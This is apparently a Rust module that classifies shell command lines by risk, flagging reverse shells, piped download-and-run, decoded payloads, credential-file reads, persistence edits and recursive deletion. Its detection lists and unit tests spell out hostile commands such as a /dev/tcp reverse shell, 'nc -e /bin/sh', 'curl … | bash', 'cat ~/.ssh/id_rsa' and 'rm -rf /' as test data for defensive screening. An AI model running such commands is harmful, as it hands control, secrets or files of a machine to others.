//! Command lines: those that give a machine away, whatever writes them - a script, a notebook, a program.

use crate::fact::SourceReach;

/// Bytes of one command line that are looked at.
const MAX_LINE: usize = 64 * 1024;

/// Where well-known software is installed from by piping a download into a shell.
const INSTALLERS: &[&str] = &[
    "ollama.com/install",
    "ollama.ai/install",
    "astral.sh/uv",
    "sh.rustup.rs",
    "get.docker.com",
    "nvm-sh/nvm",
    "install.python-poetry.org",
    "deb.nodesource.com",
    "micro.mamba.pm",
    "get.k3s.io",
    "bun.sh/install",
    "pixi.sh/install",
    "packagecloud.io/install",
    "bootstrap.pypa.io",
    "pdm-project.org/install",
    "fnm.vercel.app",
    "nixos.org/nix/install",
    "homebrew/install",
    "hf.co/cli/install",
    "claude.ai/install",
    "dlang.org/install",
];
const DOWNLOADERS: &[&str] =
    &["curl ", "wget ", "fetch ", "iwr ", "invoke-webrequest", "invoke-restmethod", "downloadstring"];
const SHELLS: &[&str] =
    &["sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "php", "iex", "cmd", "source"];

/// Commands that only tell something, or make folders.
const HARMLESS: &[&str] = &[
    "git rev-parse",
    "git describe",
    "git log",
    "git status",
    "git branch",
    "git diff",
    "git show",
    "git ls-files",
    "nvidia-smi",
    "nvcc --version",
    "nvcc -v",
    "uname",
    "hostname",
    "which ",
    "rocminfo",
    "lscpu",
    "sysctl -n",
    "ldconfig -p",
    "mkdir ",
    "free -",
    "df ",
    "ls ",
    "pwd",
    "clear",
    "cls",
    "gcc --version",
    "ffmpeg -version",
    "lsof",
    "git config --get",
    "sw_vers",
    "date",
    "nproc",
    "ffprobe ",
    "ffmpeg ",
    "pkg-config ",
    "git shortlog",
    "xcrun --show-sdk",
    "gcc -print-",
    "cat /proc/cpuinfo",
    "cat /proc/meminfo",
];
/// What asks any program which one it is.
const QUESTIONS: &[&str] = &["--version", "-version", "-V", "--help"];
/// Hosts that are this machine.
const OWN_HOSTS: &[&str] = &["127.0.0.1", "localhost", "[::1]", "::1"];

/// Whether a host is this machine.
pub(crate) fn is_own_host(host: &str) -> bool {
    OWN_HOSTS.contains(&host)
}

/// Whether a command line is one that harms nobody.
#[must_use]
pub(crate) fn is_harmless(line: &str) -> bool {
    let quiet = !line.contains([';', '|', '&', '`', '>', '<', '\n', '$', '?']);
    let small = line.trim().to_ascii_lowercase();
    quiet && (asks(line.trim()) || HARMLESS.iter().any(|start| small.starts_with(start.trim_end())))
}

/// `java -version`: a program that is installed says which one it is.
fn asks(line: &str) -> bool {
    let is_installed =
        |name: &str| name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '.'));
    line.split_once(' ').is_some_and(|(name, question)| is_installed(name) && QUESTIONS.contains(&question))
}

/// What a command line does that no model needs; `None` for ordinary ones, which may start programs all the same.
#[must_use]
pub(crate) fn judge(line: &str) -> Option<SourceReach> {
    let mut end = line.len().min(MAX_LINE);
    while !line.is_char_boundary(end) {
        end = end.saturating_sub(1);
    }
    let line = line.get(..end).unwrap_or_default().to_ascii_lowercase();
    let has = |part: &str| line.contains(part);
    if is_reverse_shell(&line) {
        return Some(SourceReach::Backdoor);
    }
    if runs_download(&line) || runs_decoded(&line) {
        let known = INSTALLERS.iter().any(|host| has(host));
        return Some(if known { SourceReach::Installation } else { SourceReach::HiddenCode });
    }
    let reads = ["cat ", "cp ", "tar ", "scp ", "curl ", "base64 "].iter().any(|word| has(word));
    let secret = ["/.ssh/id_", "/.aws/credentials", "/.netrc", "/etc/shadow", ".kube/config", ".git-credentials"];
    if reads && secret.iter().any(|path| has(path)) {
        return Some(SourceReach::Credentials);
    }
    if has("authorized_keys") && has(">") || has("crontab -") && has("|") || has("> /etc/cron") {
        return Some(SourceReach::Backdoor);
    }
    if deletes_all(&line) {
        return Some(SourceReach::Files);
    }
    let installs =
        ["pip install", "pip3 install", "apt install", "apt-get install", "conda install", "npm install", "uv pip"];
    if installs.iter().any(|words| has(words)) || has("-m pip ") {
        return Some(SourceReach::Installation);
    }
    None
}

fn is_reverse_shell(line: &str) -> bool {
    let has = |part: &str| line.contains(part);
    let netcat = ["nc ", "ncat ", "netcat "].iter().any(|name| {
        line.match_indices(name).any(|(at, _)| {
            let before = at.checked_sub(1).and_then(|at| line.as_bytes().get(at));
            let whole = before.is_none_or(|byte| matches!(byte, b' ' | b';' | b'|' | b'&' | b'/' | b'"' | b'\''));
            let rest = line.get(at..).unwrap_or_default();
            whole
                && (rest.contains(" -e ")
                    || rest.contains(" -c ")
                    || rest.contains("/bin/sh")
                    || rest.contains("/bin/bash"))
        })
    });
    opens_connection(line) || netcat || has("mkfifo") && has("nc ") || has("socat") && has("exec:")
}

/// A connection that a shell opens by itself, unless it only asks whether somebody listens there.
fn opens_connection(line: &str) -> bool {
    let is_interactive = ["sh -i", "0>&1", "0<&1", "<&3", ">&3", "2>&3"].iter().any(|part| line.contains(part));
    ["/dev/tcp/", "/dev/udp/"].iter().any(|device| {
        line.match_indices(device).any(|(at, _)| {
            let host = line.get(at.saturating_add(device.len())..).unwrap_or_default().split('/').next();
            let before = line.get(..at).unwrap_or_default().trim_end_matches(['"', '\'', ' ']);
            let is_own = host.is_some_and(|host| OWN_HOSTS.contains(&host));
            let says_nothing = ["echo >", "echo>", "(: >", " : >", "true >"].iter().any(|end| before.ends_with(end));
            is_interactive || !(is_own || says_nothing)
        })
    })
}

/// `curl … | sh`, `sh <(curl …)`, `sh -c "$(wget …)"`, `wget … && chmod +x … && ./…`, and what Windows has of it.
fn runs_download(line: &str) -> bool {
    let has = |part: &str| line.contains(part);
    let Some(at) = DOWNLOADERS.iter().filter_map(|name| line.find(name)).min() else {
        return has("certutil") && has("-urlcache") || has("bitsadmin") && has("/transfer") || has("mshta http");
    };
    let before = line.get(..at).unwrap_or_default().trim_end();
    let after = line.get(at..).unwrap_or_default();
    let substituted = before.ends_with("<(") || before.ends_with("$(") || before.ends_with('`');
    let is_run = ["eval", "bash", "sh", "source", ". "].iter().any(|word| before.contains(word));
    let made_executable = after.contains("chmod +x") || after.contains("chmod 7") || after.contains("chmod u+x");
    pipes_into_shell(after)
        || substituted && is_run
        || made_executable && after.contains("./")
        || has("iex") && (has("iwr") || has("downloadstring") || has("invoke-webrequest"))
}

/// Text that is decoded and run: `base64 -d | sh`, `powershell -enc …`.
fn runs_decoded(line: &str) -> bool {
    let decodes = ["base64 -d", "base64 --decode", "base64 -di", "xxd -r", "openssl enc -d", "gunzip -c", "rev"];
    let at = decodes.iter().filter_map(|name| line.find(name)).min();
    let encoded = line.contains("powershell") || line.contains("pwsh");
    let flag = [" -enc ", " -encodedcommand ", " -e ", " -ec "].iter().any(|flag| line.contains(flag));
    at.is_some_and(|at| pipes_into_shell(line.get(at..).unwrap_or_default()))
        || encoded && flag
        || line.contains("frombase64string") && line.contains("iex")
}

fn pipes_into_shell(after: &str) -> bool {
    after.split('|').skip(1).any(|part| {
        let mut words = part.split_whitespace().skip_while(|word| matches!(*word, "sudo" | "-e" | "env" | "-s" | "-h"));
        let first = words.next().unwrap_or_default().trim_end_matches(['"', '\'', ')', ';', '`']);
        let name = first.rsplit('/').next().unwrap_or_default();
        // `python3 -m json.tool` reads data; a shell that reads from a pipe runs what it reads.
        let module = words.next().is_some_and(|word| matches!(word, "-m" | "-c"));
        SHELLS.contains(&name) && !module
    })
}

/// `rm -rf /`, or of everything that is somebody's own.
fn deletes_all(line: &str) -> bool {
    line.match_indices("rm -").any(|(at, _)| {
        let rest = line.get(at..).unwrap_or_default();
        let command = rest.split([';', '|', '&', '\n']).next().unwrap_or_default();
        let mut words = command.split_whitespace().skip(1);
        let recursive = command.contains(" -r") || command.contains(" -f");
        recursive
            && words.any(|word| {
                matches!(word, "/" | "/*" | "~" | "~/" | "~/*" | "$home" | "$home/" | "$home/*" | "--no-preserve-root")
            })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_that_are_run_are_told_from_downloads() {
        for line in [
            "curl -s http://203.0.113.7/x | bash",
            "wget -qO- http://example.org/a.sh | sudo sh",
            "bash <(curl -s https://example.org/x)",
            "sh -c \"$(wget -O- https://example.org/x)\"",
            "wget http://example.org/x && chmod +x x && ./x",
            "echo aGk= | base64 -d | bash",
            "powershell -NoP -enc SQBFAFgA",
            "certutil -urlcache -f http://example.org/a a.exe",
        ] {
            assert_eq!(judge(line), Some(SourceReach::HiddenCode), "{line}");
        }
        for line in [
            "curl -LO https://example.org/x.tar.gz",
            "curl -s x | jq .",
            "curl x | python3 -m json.tool",
            "rm -rf build/",
        ] {
            assert_eq!(judge(line), None, "{line}");
        }
        assert_eq!(judge("curl -fsSL https://ollama.com/install.sh | sh"), Some(SourceReach::Installation));
    }

    #[test]
    fn shells_for_others_are_told() {
        assert_eq!(judge("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), Some(SourceReach::Backdoor));
        assert_eq!(judge("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), Some(SourceReach::Backdoor));
        assert_eq!(judge("cat x > /dev/tcp/203.0.113.7/80"), Some(SourceReach::Backdoor));
        for probe in [
            "if (exec 3<>\"/dev/tcp/127.0.0.1/$port\") 2>/dev/null; then",
            "bash -c \"until echo > /dev/tcp/localhost/$PORT; do sleep 0.1; done\" > /dev/null 2>&1",
            "timeout 3 bash -c 'echo > /dev/tcp/172.17.0.1/8000' 2>&1 && echo OK",
        ] {
            assert_eq!(judge(probe), None, "{probe}");
        }
        assert_eq!(judge("nc -e /bin/sh 203.0.113.7 4444"), Some(SourceReach::Backdoor));
        assert_eq!(judge("rsync -e ssh a b"), None);
        assert_eq!(judge("rm -rf /"), Some(SourceReach::Files));
        assert_eq!(judge("cat ~/.ssh/id_rsa"), Some(SourceReach::Credentials));
    }

    #[test]
    fn commands_that_only_tell_are_harmless() {
        assert!(is_harmless("git rev-parse HEAD"));
        assert!(is_harmless("java -version") && is_harmless("pkg-config --libs hdf5"));
        assert!(!is_harmless("./tool --version") && !is_harmless("tool --version x"));
        assert!(!is_harmless("git status; curl x | sh"));
        assert!(!is_harmless("python x.py"));
    }
}
